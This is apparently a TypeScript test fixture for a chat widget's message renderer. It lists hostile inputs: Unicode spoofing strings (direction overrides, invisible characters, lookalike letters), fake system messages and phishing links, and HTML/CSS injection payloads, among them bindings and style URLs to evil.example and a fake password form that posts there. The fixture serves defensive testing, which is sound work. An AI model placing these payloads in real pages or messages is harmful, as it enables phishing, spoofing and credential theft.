import type {Hostile} from '../hostile.ts';
import {card, said} from './said.ts';

/** Words that look like something they are not. They are shown as they are, and stay in their place. */
const looks: readonly (readonly [name: string, words: string])[] = [
  ['runs backwards', 'Pay \u202e000,1\u202c now'],
  ['runs backwards and never ends', 'Pay \u202e000,1 now'],
  ['is isolated and never ends', 'Pay \u2067now'],
  ['changes direction a hundred times', 'a\u202eb\u202d'.repeat(100)],
  ['holds signs of no width', 'pay\u200bpal\u200c.\u200dexample\u2060'],
  ['holds letters of other scripts', 'Your bank: аррӏе рауреl'],
  ['holds wide letters', 'ｅｖｉｌ．ｅｘａｍｐｌｅ'],
  ['holds marks upon marks', `H${'\u0301\u0321\u0489'.repeat(200)}i`],
  ['holds tags of invisible letters', 'Words\u{e0068}\u{e0069}\u{e007f} end'],
  ['holds half of a pair', 'Half \ud83d of a pair'],
  ['holds control characters', 'A bell \u0007 and an escape \u001b[31m red'],
  ['holds separators of lines', 'One\u2028two\u2029three'],
  ['holds a mark of bytes', '\ufeffWords'],
  ['holds private signs', 'Words \ue000\uf8ff\u{f0000}'],
  ['is a family of many', '👩‍👩‍👧‍👦'.repeat(50)],
  ['is a flag of no country', '🇦'.repeat(99)],
  ['is one word of 4,000 letters', 'w'.repeat(4_000)],
  ['has a thousand lines', 'line\n'.repeat(1_000).trim()],
  ['is from right to left', 'ادفع الآن'],
  ['says that the chat says it', 'Not sent. Try again'],
  ['says that the visitor said it', 'You, 12:00: I agree'],
  ['says that the session is over', '⚠ Your session ended. Log in: https://evil.example/'],
];

/** Ways to style that are not there. */
const styled: readonly (readonly [name: string, body: string, words: string])[] = [
  ['a style over everything', '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Log in</p>', 'Log in'],
  ['an expression', '<b style="width:expression(ran())">Words</b>', 'Words'],
  ['a binding', '<b style="-moz-binding:url(https://evil.example/x.xml#x)">Words</b>', 'Words'],
  ['a behaviour', '<b style="behavior:url(https://evil.example/x.htc)">Words</b>', 'Words'],
  ['a picture by style', '<b style="background:image-set(\'https://evil.example/x\' 1x)">Words</b>', 'Words'],
  ['a value by style', '<b style="background:url(https://evil.example/?x=attr(href))">Words</b>', 'Words'],
  ['a property of ours', '<b style="--parley-brand:red;--_accent:red">Words</b>', 'Words'],
  ['a class of ours', '<b class="bubble visitor failed">Words</b>', 'Words'],
  ['a part of ours', '<b part="bubble visitor" exportparts="header">Words</b>', 'Words'],
  ['a slot of ours', '<b slot="header">Words</b>', 'Words'],
  ['a role of ours', '<b role="alert" aria-live="assertive">Words</b>', 'Words'],
  ['colours of old', '<font color="red" size="7" face="evil">Words</font>', 'Words'],
  ['a moving text', '<marquee behavior="alternate">Words</marquee>', 'Words'],
  [
    'a login',
    '<form action="https://evil.example"><label>Password<input type="password" name="p"></label><button>Log in</button></form>',
    'Log in',
  ],
  ['a dialog', '<dialog open>Words</dialog>', 'Words'],
  ['a popover', '<div popover="manual" id="evil">Words</div>', 'Words'],
  ['something to edit', '<p contenteditable="true">Words</p>', 'Words'],
  ['something to draw', '<canvas id="evil">Words</canvas>Other words', 'Other words'],
  ['a key to jump', '<b accesskey="x" tabindex="1">Words</b>', 'Words'],
  ['a drag', '<b draggable="true" ondragstart="ran()">Words</b>', 'Words'],
];

export const appearances: readonly Hostile[] = [
  ...looks.map(([name, words]) => ({
    name: `a card that ${name}`,
    message: card({title: words, subtitle: 'Subtitle'}),
    shows: ['Subtitle'],
  })),
  ...looks.map(([name, words]) => ({
    name: `a body that ${name}`,
    message: said(words, {quick_replies: ['Go on']}),
    shows: ['Go on'],
    links: words.includes('https://evil.example/') ? ['https://evil.example/'] : [],
  })),
  ...styled.map(([name, body, words]) => ({name: `a body with ${name}`, message: said(body), shows: [words]})),
  {
    name: 'a link named as another host',
    message: said('[https://bank.example/login](https://evil.example/login)'),
    shows: ['https://bank.example/login'],
    links: ['https://evil.example/login'],
  },
  {
    name: 'a link around everything',
    message: said('<a href="https://evil.example/"><p>One</p><p>Two</p></a>'),
    shows: ['One', 'Two'],
    links: ['https://evil.example/'],
  },
];
